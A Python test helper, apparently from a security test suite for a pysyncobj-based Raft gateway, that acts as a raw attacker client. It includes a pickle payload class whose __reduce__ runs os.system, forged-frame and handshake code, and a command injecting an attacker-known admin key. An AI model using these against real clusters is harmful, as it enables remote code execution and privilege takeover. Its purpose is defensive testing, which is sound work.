"""A raw client of a node's Raft port, speaking pysyncobj's wire format: what an attacker runs.

pysyncobj's frame is a 4-byte native int length, then zlib(pickle) (protocol
2), encrypted with Fernet when there is a password. With the secret, a client
can complete pysyncobj's key exchange and then say who it is (a voter's
address, `"readonly"`, or a utility command) and send any message. Without
it, it can send frames that look right. The attack tests use both.
"""

from __future__ import annotations

import functools
import hashlib
import os
import pickle
import socket
import struct
import time
import uuid
import zlib
from typing import Any

from cryptography.fernet import Fernet
from pysyncobj.encryptor import getEncryptor

from mesh import commands


class Shell:
    """Unpickling this runs `command` in a shell (what plain pickle.loads allows)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (self.command,))


@functools.cache
def encryptor(secret: str) -> Fernet:
    """pysyncobj's Fernet for `secret` (PBKDF2, 100k rounds: derived once, as a node does)."""
    return getEncryptor(secret)  # type: ignore[no-any-return]


def frame(message: Any, secret: str | None = None) -> bytes:
    """One frame as pysyncobj writes it; unencrypted when `secret` is None."""
    data = zlib.compress(pickle.dumps(message, 2), 3)
    if secret is not None:
        data = encryptor(secret).encrypt_at_time(data, int(time.monotonic()))
    return struct.pack("i", len(data)) + data


def regular_entry(*args: Any, method: int = 0) -> bytes:
    """A log entry calling replicated method `method` (0 is meshgate's `apply`) with `args`."""
    return b"\x00" + pickle.dumps((method, args), 2)


def admin_key_command(name: str = "pwned") -> dict[str, Any]:
    """The `key.create` the injection tried: an admin key whose secret the attacker knows."""
    spec = {
        "id": uuid.uuid4().hex,
        "name": name,
        "tenant": None,
        "role": "admin",
        "prefix": "mg_",
        "hash": hashlib.sha256(b"attacker-knows-this").hexdigest(),
    }
    return commands.make("key.create", {"key": spec}, by="attacker")


class RaftClient:
    """A blocking connection to a Raft port; `handshake` needs the right secret to succeed."""

    def __init__(self, address: str, secret: str | None = None, timeout: float = 5.0) -> None:
        host, port = address.rsplit(":", 1)
        self.secret = secret
        if secret is not None:
            encryptor(secret)  # before connecting: a peer is ready to talk once connected
        self.sock = socket.create_connection((host, int(port)), timeout=timeout)
        self._send_key: bytes | None = None
        self._recv_key: bytes | None = None
        self._buffer = b""

    def send_raw(self, data: bytes) -> bool:
        """Send bytes; False if the node has already closed the connection."""
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            return False

    def send(self, message: Any) -> bool:
        if self._send_key is not None:
            message = (self._send_key, message)
        return self.send_raw(frame(message, self.secret))

    def recv(self) -> Any:
        """The next message (unwrapped from this connection's key)."""
        assert self.secret is not None
        fernet = encryptor(self.secret)
        while True:
            if len(self._buffer) >= 4:
                (length,) = struct.unpack("i", self._buffer[:4])
                if len(self._buffer) >= 4 + length:
                    token, self._buffer = self._buffer[4 : 4 + length], self._buffer[4 + length :]
                    message = pickle.loads(zlib.decompress(fernet.decrypt(token)))
                    if self._recv_key is not None:
                        key, message = message
                        assert key == self._recv_key
                    return message
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed by the node")
            self._buffer += chunk

    def handshake(self, identity: str | list[str]) -> None:
        """pysyncobj's key exchange as the dialing side, then say who we are."""
        self._recv_key = None
        my_key = os.urandom(32)
        self.send(my_key)
        self._recv_key = my_key
        self._send_key = self.recv()  # the node's key, sent back under ours
        self.send(identity)

    def closed_by_node(self, timeout: float = 10.0) -> bool:
        """Read (and drop) whatever comes until the node closes the connection."""
        self.sock.settimeout(0.2)
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                if not self.sock.recv(65536):
                    return True
            except TimeoutError:
                continue
            except OSError:  # reset
                return True
        return False

    def close(self) -> None:
        self.sock.close()

    def __enter__(self) -> RaftClient:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()
